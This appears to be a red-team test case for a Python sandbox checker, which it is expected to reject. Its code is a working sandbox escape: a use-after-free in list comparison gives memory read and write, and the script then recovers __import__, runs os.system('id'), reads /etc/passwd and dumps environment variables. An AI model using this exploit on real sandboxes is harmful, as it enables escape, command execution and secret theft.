# expect: reject memory
# line: 22
# why: round 92 (red team): for a, b in {X: 0} unpacks the dict's keys, running type(X).__iter__ unjudged; comprehensions' items likewise
# pure_unpacked judges `for a, b in {X: 0}` as iterating a display (fine) but only
# recurses into the items of list/tuple/set displays: a dict display's keys are
# unpacked too, running their class's __iter__, which nothing judges (iters_any is
# never set). Used inside __lt__/__gt__ around list_richcompare's borrowed compare.
vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(1 << 62)
        + q(0) + q(0) + q(1) + q(0) + q(0))[:89]


class Clearer:
    def __iter__(self):
        vl.clear()
        return iter([1, 2])


class Filler:
    def __iter__(self):
        KEEP.append(bytearray(FAKE))
        return iter([1, 2])


CLR = Clearer()
FILL = Filler()


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        for a, b in {CLR: 0}:
            pass
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        for a, b in {FILL: 0}:
            pass
        return o


vl.append(V())
w = W()
mem = vl < [w]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
